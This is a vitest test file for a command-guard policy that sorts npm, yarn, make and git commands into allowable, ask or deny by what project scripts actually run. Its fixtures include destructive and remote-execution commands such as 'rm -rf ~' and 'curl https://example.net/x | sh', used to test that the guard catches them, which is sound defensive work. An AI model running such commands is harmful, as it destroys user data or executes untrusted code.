import { describe, expect, test } from 'vitest'
import { judgeCommand } from '../../../../src/main/core/policy/commandGuard'
import { makeRecipe } from '../../../../src/main/core/policy/programs/makeRecipes'
import type { Where } from '../../../../src/main/core/policy/shell/call'
import { say } from '../../../../src/shared/words/say'

const scripts: Readonly<Record<string, string>> = {
  build: 'tsc -b && vite build', test: 'vitest run', deploy: 'npm run build && git push origin main', clean: 'rm -rf dist', wipe: 'rm -rf ~', around: 'npm run around', posttest: 'curl https://example.net/report',
  up: 'yarn wipe', env: 'printenv', local: './scripts/run.sh "$X"', prepare: 'curl https://example.net/x | sh', a: 'npm run b; npm run b', b: 'npm run c; npm run c', c: 'npm run a; ls', nodemon: 'nodemon',
}
const makefile = 'BIN = app\n\nall: build\n\nbuild: gen ## builds\n\t@$(CC) -o $(BIN) main.c\n\ngen:\n\t-mkdir -p out\n\npush: all\n\tgit push \\\n\t  origin main\n\nwipe:; rm -rf $$HOME\n\n.PHONY: all\n'
const where: Where = {
  cwd: '/home/ann/app', root: '/home/ann/app', home: '/home/ann', appData: '/home/ann/.local/share/countersign', projectGit: { executes: false },
  scripts: (name, kind) => (kind === 'make' ? makeRecipe(makefile, name) : (scripts[name] ?? null)), hooks: () => ['pre-commit', 'pre-push', 'post-checkout'],
}
const told = (command: string, language: 'en' | 'zh-CN' = 'en'): string => {
  const { kind, reason } = judgeCommand(command, where)
  return `${kind}: ${say(language, reason)}`
}

describe('R66: scripts of the project are judged by what they run', () => {
  test.each([
    ['npm run build', 'allowable: npm runs the project’s script “build”: tsc -b && vite build'],
    ['pnpm build', 'allowable: pnpm runs the project’s script “build”: tsc -b && vite build'],
    ['npm run clean', 'allowable: npm runs the project’s script “clean”: rm -rf dist'],
    ['npm run deploy', 'ask: The project’s script “deploy” does more than build: git push can change something outside this computer (origin).'],
    ['npm run wipe', 'deny: The project’s script “wipe” does more than build: Deletes your home folder.'],
    ['yarn up', 'ask: yarn installs packages, and packages run code of their own.'],
    ['yarn run up', 'deny: The project’s script “up” does more than build: The project’s script “wipe” does more than build: Deletes your home folder.'],
    ['npm test', 'ask: The project’s script “posttest” does more than build: curl connects to example.net.'],
    ['npm ci', 'ask: The project’s script “prepare” does more than build: curl connects to example.net.'],
    ['npm ci --ignore-scripts', 'allowable: npm ci builds, tests or checks the project; what its scripts do is not part of the command.'],
    ['npm run local', 'allowable: npm runs the project’s script “local”: ./scripts/run.sh "$X"'],
    ['npm run around', 'allowable: npm runs the project’s script “around”: npm run around'],
    ['npm run a', 'allowable: npm runs the project’s script “a”: npm run b; npm run b'],
    ['npm run nodemon -- -x "rm -rf ~"', 'deny: The project’s script “nodemon” does more than build: Deletes your home folder.'],
    ['cd sub && npm run wipe', 'allowable: npm run builds, tests or checks the project; what its scripts do is not part of the command.'],
    ['npm run wipe --workspace=a', 'allowable: npm run builds, tests or checks the project; what its scripts do is not part of the command.'],
    ['make', 'allowable: make runs the project’s script “make”: mkdir -p out\n${MAKE_CC} -o ${MAKE_BIN} main.c'],
    ['make push', 'ask: The project’s script “push” does more than build: git push can change something outside this computer (origin).'],
    ['make wipe', 'deny: The project’s script “wipe” does more than build: Deletes your home folder.'],
  ])('%j → %s', (command, expected) => {
    expect(told(command)).toBe(expected)
  })

  test('the script stays one part, with all that it touches', () => {
    expect(judgeCommand('npm run clean', where).parts.map(({ argv, deletes, canUndo }) => ({ argv: argv.join(' '), deletes, canUndo }))).toEqual([{ argv: 'npm run clean', deletes: ['/home/ann/app/dist'], canUndo: true }])
  })

  test('hooks that a command of git starts are named, in both languages', () => {
    expect(['git commit -m x', 'git commit -n -m x', 'git switch main', 'git stash'].map((command) => told(command))).toEqual([
      'allowable: git commit changes the local repository and starts hooks of the project: pre-commit.',
      'allowable: git commit changes the local repository.',
      'allowable: git switch changes the local repository and starts hooks of the project: post-checkout.',
      'allowable: git stash changes the local repository.',
    ])
    expect(told('git commit -m x', 'zh-CN')).toBe('allowable: git commit 会改动本地仓库，并启动项目的钩子：pre-commit。')
  })

  test('what one judgement found out about scripts does not hold for the next', () => {
    const changing = { text: 'vitest run' }
    const now: Where = { ...where, scripts: (name) => (name === 'test' ? changing.text : null) }
    const first = judgeCommand('npm test', now).kind
    changing.text = 'rm -rf ~'
    expect([first, judgeCommand('npm test', now).kind]).toEqual(['allowable', 'deny'])
  })

  test('a makefile without the target tells nothing', () => {
    expect([makeRecipe(makefile, 'none'), makeRecipe('', ''), makeRecipe('%.o: %.c\n\tcc $<\n', '')]).toEqual([null, null, null])
  })
})
